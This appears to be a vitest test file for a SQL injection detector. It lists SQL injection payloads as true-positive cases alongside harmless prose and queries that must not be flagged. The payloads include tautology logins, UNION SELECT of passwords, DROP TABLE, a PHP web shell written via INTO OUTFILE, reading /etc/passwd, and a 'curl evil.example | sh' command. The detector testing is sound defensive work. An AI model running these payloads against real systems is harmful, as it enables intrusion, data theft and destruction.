import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { detectSqlRisks } from './sql.js';

function types(text: string): string[] {
  return [...new Set(detectSqlRisks(text).map((m) => m.type))].sort();
}

describe('detectSqlRisks: true positives', () => {
  const cases: Array<[string, string]> = [
    ["' OR '1'='1", 'sink:sql:tautology'],
    ["admin' OR 1=1 -- ", 'sink:sql:tautology'],
    ['1 OR 2>1', 'sink:sql:tautology'],
    ["x' OR 'a' LIKE 'a", 'sink:sql:tautology'],
    ["admin'--", 'sink:sql:comment-after-quote'],
    ["admin'/*", 'sink:sql:comment-after-quote'],
    ["admin')#", 'sink:sql:comment-after-quote'],
    ["SELECT * FROM users WHERE name = 'admin'-- ' AND password = 'x'", 'sink:sql:comment-after-quote'],
    ['1; DROP TABLE users', 'sink:sql:stacked-query'],
    ["x'; DELETE FROM accounts WHERE 1=1; --", 'sink:sql:stacked-query'],
    ["x'; EXEC master..xp_cmdshell 'ping evil.example'--", 'sink:sql:command-exec'],
    ["' UNION SELECT NULL, username, password FROM users--", 'sink:sql:union-select'],
    ['1 UNION ALL SELECT 1,2,@@version', 'sink:sql:union-select'],
    ['1 UNION/**/SELECT 1,2', 'sink:sql:union-select'],
    ["SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/shell.php'", 'sink:sql:file-access'],
    ["SELECT LOAD_FILE('/etc/passwd')", 'sink:sql:file-access'],
    ["COPY t FROM PROGRAM 'curl evil.example | sh'", 'sink:sql:command-exec'],
    ['1 AND SLEEP(5)', 'sink:sql:time-delay'],
    ['1; SELECT pg_sleep(10)--', 'sink:sql:time-delay'],
    ["1'; WAITFOR DELAY '0:0:5'--", 'sink:sql:time-delay'],
    ['1 AND BENCHMARK(5000000,MD5(1))', 'sink:sql:time-delay'],
    ['SELECT table_name FROM information_schema.tables', 'sink:sql:schema-probe'],
    ['/*!50000UNION*/ SELECT 1', 'sink:sql:executable-comment'],
    ['DROP TABLE audit_log', 'sink:sql:ddl'],
    ["don't select * from users; drop table logs", 'sink:sql:stacked-query'],
  ];
  for (const [text, type] of cases) {
    it(text, () => {
      expect(types(text)).toContain(type);
    });
  }
  it('locates the tautology', () => {
    const text = "name = '' OR '1'='1'";
    const match = detectSqlRisks(text).find((m) => m.type === 'sink:sql:tautology')!;
    expect(text.slice(match.start, match.end)).toBe("OR '1'='1'");
  });
});

describe('detectSqlRisks: near misses', () => {
  it('the word "select" and other SQL words in prose are not flagged', () => {
    for (const text of [
      'Please select the option that fits best.',
      'Select all that apply; drop me a line if unsure.',
      'The union selected a new leader or two.',
      'I would order 2 or 3 of them.',
      "It's a delete-and-retry loop, don't worry -- it's fine.",
      'Sleep (8 hours) is important.',
    ]) {
      expect(types(text), text).toEqual([]);
    }
  });
  it('an ordinary query is not flagged', () => {
    expect(
      types(
        "SELECT id, name FROM users WHERE email = 'a@example.org' AND active = 1 ORDER BY name LIMIT 10;",
      ),
    ).toEqual([]);
    expect(types("INSERT INTO notes (body) VALUES ('it''s fine')")).toEqual([]);
  });
  it('a legitimate UNION is only a weak signal', () => {
    const [match] = detectSqlRisks('SELECT a FROM t1 UNION SELECT a FROM t2');
    expect(match!.type).toBe('sink:sql:union-select');
    expect(match!.confidence).toBeLessThan(0.75);
  });
  it('never throws (property)', () => {
    const pieces = [
      "'",
      '"',
      '--',
      '/*',
      '*/',
      '#',
      ';',
      'OR',
      ' ',
      '1',
      '=',
      'UNION',
      'SELECT',
      'DROP',
      'TABLE',
      '\\',
      '`',
      '[',
      ']',
      '/*!',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 60 }), (parts) => {
        detectSqlRisks(parts.join(''));
      }),
      { numRuns: 1000 },
    );
  });
});
